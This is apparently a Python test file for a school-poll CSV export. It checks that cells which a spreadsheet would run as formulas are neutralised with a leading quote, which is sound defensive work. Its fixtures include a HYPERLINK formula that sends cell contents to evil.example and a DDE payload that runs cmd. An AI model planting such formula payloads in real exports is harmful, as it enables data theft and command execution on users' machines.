"""spaces_provisioner.ops.polls.results_csv: cells a spreadsheet would run as a formula are neutralised
(OWASP "CSV Injection"; issue 11's F4), the rest is written as it is."""

from __future__ import annotations

import csv
import io

from spaces_provisioner.ops.polls import results_csv


def person(user_id: str, name: str, answer: str) -> dict:
    return {"user_id": user_id, "name": name, "role_title": "ученик", "classes": ["5А"], "children": [],
            "answered": bool(answer), "answer_text": answer, "answered_at": None}


def test_formula_cells_get_a_leading_quote():
    people = [person("@a:school.test", "Иванов Иван", '=HYPERLINK("http://evil.example/?x="&A2,"Да")'),
              person("@b:school.test", "+79001234567", "-1+1"), person("@c:school.test", "@всем", "\tcmd"),
              person("@d:school.test", "Петрова Анна", "Приду"), person("@e:school.test", "Сидоров", "\r=1")]
    text = results_csv({"people": people}).decode("utf-8").lstrip("\ufeff")
    rows = {r[-1]: r for r in list(csv.reader(io.StringIO(text), delimiter=";"))[1:]}
    assert rows["@a:school.test"][5] == '\'=HYPERLINK("http://evil.example/?x="&A2,"Да")'
    assert rows["@b:school.test"][0] == "'+79001234567" and rows["@b:school.test"][5] == "'-1+1"
    assert rows["@c:school.test"][0] == "'@всем" and rows["@c:school.test"][5] == "'\tcmd"
    assert rows["@e:school.test"][5] == "'\r=1"
    d = rows["@d:school.test"]
    assert d[:4] + d[5:6] == ["Петрова Анна", "ученик", "5А", "", "Приду"]


def test_a_user_id_stays_as_it_is_but_not_a_formula_in_its_place():
    text = results_csv({"people": [person("@ivan.petrov:school.test", "x", ""),
                                   person('@SUM(1+1)*cmd|"/C calc"!A0', "y", "")]}).decode("utf-8")
    ids = [r[-1] for r in list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))[1:]]
    assert ids == ["@ivan.petrov:school.test", '\'@SUM(1+1)*cmd|"/C calc"!A0']
